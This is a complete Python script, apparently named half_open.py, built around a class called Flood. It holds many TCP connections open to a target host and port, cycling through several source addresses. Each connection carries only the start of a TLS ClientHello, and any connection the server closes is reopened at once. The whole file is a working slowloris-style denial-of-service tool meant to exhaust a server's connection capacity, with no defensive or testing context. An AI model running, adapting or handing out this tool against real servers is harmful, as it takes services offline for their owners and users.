#!/usr/bin/env python3
"""Many connections that never say who they are.

usage: half_open.py HOST PORT COUNT SOURCE...

Holds COUNT TCP connections to HOST:PORT, from the SOURCE addresses in turn, each with the beginning of a ClientHello and
nothing behind it. One that the server closes is made anew at once. Prints "N open" when each has been tried, and at the
end of standard input how many connections it made in all.
"""

from __future__ import annotations

import os
import selectors
import socket
import sys

CLIENT_HELLO = bytes([22, 3, 1, 2, 0, 1, 0, 1, 252, 3, 3]) + bytes(100)  # of 512 bytes
AT_ONCE = 100  # new ones between two looks at standard input


class Flood:
    def __init__(self, server: tuple[str, int], count: int, sources: list[str]) -> None:
        self.server, self.sources = server, sources
        self.wanted = count
        self.made = 0
        self.selector = selectors.DefaultSelector()
        self.open: set[socket.socket] = set()

    def make(self) -> None:
        """One more, without waiting for it."""
        one = socket.socket()
        one.setblocking(False)
        one.setsockopt(socket.SOL_SOCKET, socket.SO_REUSEADDR, 1)
        one.bind((self.sources[self.made % len(self.sources)], 0))
        one.connect_ex(self.server)
        self.made += 1
        self.open.add(one)
        self.selector.register(one, selectors.EVENT_WRITE, one)

    def on_ready(self, one: socket.socket, events: int) -> None:
        try:
            if events & selectors.EVENT_WRITE:
                one.send(CLIENT_HELLO)
                self.selector.modify(one, selectors.EVENT_READ, one)
                return
            if one.recv(4096):
                return
        except BlockingIOError:
            return
        except OSError:
            pass
        self.selector.unregister(one)
        self.open.discard(one)
        one.close()

    def run(self) -> None:
        self.selector.register(sys.stdin, selectors.EVENT_READ, None)
        told = False
        while True:
            for _ in range(min(AT_ONCE, self.wanted - len(self.open))):
                self.make()
            if not told and self.made >= self.wanted:
                told = True
                print(f"{len(self.open)} open", flush=True)
            for key, events in self.selector.select(0.1):
                if key.data is None:
                    if not os.read(0, 100):
                        return
                else:
                    self.on_ready(key.data, events)


def main() -> None:
    flood = Flood((sys.argv[1], int(sys.argv[2])), int(sys.argv[3]), sys.argv[4:])
    flood.run()
    print(flood.made, flush=True)


if __name__ == "__main__":
    main()
